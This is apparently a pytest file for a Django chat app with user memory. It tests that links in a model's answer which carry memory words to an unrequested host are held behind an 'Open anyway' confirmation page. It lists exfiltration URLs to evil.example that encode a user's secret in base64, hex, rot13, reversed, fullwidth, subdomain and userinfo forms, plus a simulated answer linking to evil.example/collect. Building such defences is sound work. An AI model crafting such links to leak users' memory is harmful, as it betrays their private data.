"""Before a link opens that carries words of memory to an address that nobody typed, the person is asked."""

import base64
import codecs
import re
from urllib.parse import quote

import pytest
from django.test import Client as Browser

from chat.context.carried_words import carries, words_of
from chat.context.prompt import build_request
from chat.rendering.outgoing_links import signed
from memory.documents.write import Append, Author, apply
from memory.models import MemoryRevision
from oneclaw.models import Space
from tests.conversations import send, settle

pytestmark = pytest.mark.django_db

SECRET = words_of("- Lena got a job at the harbour, account 99812")
EVIL = "https://evil.example"


def test_words_of_memory_are_found_in_every_part_and_form_of_an_address():
    encoded = base64.urlsafe_b64encode(b"the harbour is hers").decode().rstrip("=")
    carrying = [
        f"{EVIL}/?d=harbour",
        f"{EVIL}/?d={quote(quote('the harbour'))}",
        f"{EVIL}/#99812",
        f"{EVIL}/lena/at/the/HARBOUR",
        f"https://harbour.{EVIL[8:]}/",
        f"https://harbour@{EVIL[8:]}/",
        f"{EVIL}/?d={encoded}",
        f"{EVIL}/p/{b'the harbour is hers'.hex()}",
        f"{EVIL}/?d={codecs.encode('harbour', 'rot13')}",
        f"{EVIL}/?d={'harbour'[::-1]}",
        f"{EVIL}/?d=ｈａｒｂｏｕｒ",
    ]
    assert [address for address in carrying if not carries(address, SECRET)] == []


def test_ordinary_addresses_carry_nothing():
    ordinary = [
        "https://docs.djangoproject.com/en/5.2/releases/5.2.19/#bugfixes",
        "https://github.com/django/django/commit/4f9c0e7d1b2a3c4d5e6f708192a3b4c5d6e7f809",
        "https://en.wikipedia.org/wiki/Harbour",
        "https://example.org/?id=1",
    ]
    assert [address for address in ordinary if carries(address, SECRET)] == []
    assert not carries(f"{EVIL}/?d=harbour", set())


def answered(person, asked, answer):
    """Return the browser of a person whose model was sent their memory, and the finished answer."""
    apply(
        Space.objects.own_of(person),
        "MEMORY.md",
        Append("- Lena got a job at the harbour\n"),
        Author(MemoryRevision.Source.PAGE, person),
    )
    accepted = send(person, asked)
    build_request(accepted.turn)
    settle(accepted, answer)
    accepted.answer.refresh_from_db()
    browser = Browser()
    browser.force_login(person)
    return browser, accepted.answer


def test_a_link_with_words_of_memory_is_asked_about_and_opens_by_a_click(ada):
    address = f"{EVIL}/collect?d=harbour"
    browser, answer = answered(ada, "How is the weather?", f"[Here it is]({address})")
    page = browser.get(f"/c/{answer.session_id}").content.decode()
    assert address not in re.search(r'<article[^>]*data-role="assistant".*?</article>', page, re.DOTALL)[0]
    (path,) = re.findall(rf'href="(/messages/{answer.pk}/leave/[^"]+)"', page)
    asked = browser.get(path)
    assert asked.status_code == 200
    assert asked["Referrer-Policy"] == "no-referrer"
    assert f'href="{address}"' in asked.content.decode()
    assert "Open anyway" in asked.content.decode()
    assert "evil.example" in asked.content.decode()


def test_other_links_pass_on_at_once(ada):
    browser, answer = answered(ada, "Is the harbour https://pier.example/at/harbour?x=harbour fine?", "Yes.")
    for address in ("https://docs.example.org/en/latest/?page=2", "https://pier.example/at/harbour?x=harbour"):
        found = browser.get(f"/messages/{answer.pk}/leave/{signed(answer.pk, address)}")
        assert (found.status_code, found["Location"]) == (302, address)
    # The person typed the word, so the model did not need the memory for it.
    found = browser.get(f"/messages/{answer.pk}/leave/{signed(answer.pk, EVIL + '/?d=harbour')}")
    assert found.status_code == 302


def test_it_leads_to_no_address_that_the_answer_does_not_have_and_nobody_elses(ada, stranger):
    browser, answer = answered(ada, "Hello", "Hi")
    assert browser.get(f"/messages/{answer.pk}/leave/https:evil.example").status_code == 404
    assert browser.get(f"/messages/{answer.pk}/leave/{signed(answer.pk + 1, EVIL)}").status_code == 404
    other = Browser()
    other.force_login(stranger)
    assert other.get(f"/messages/{answer.pk}/leave/{signed(answer.pk, EVIL)}").status_code == 404
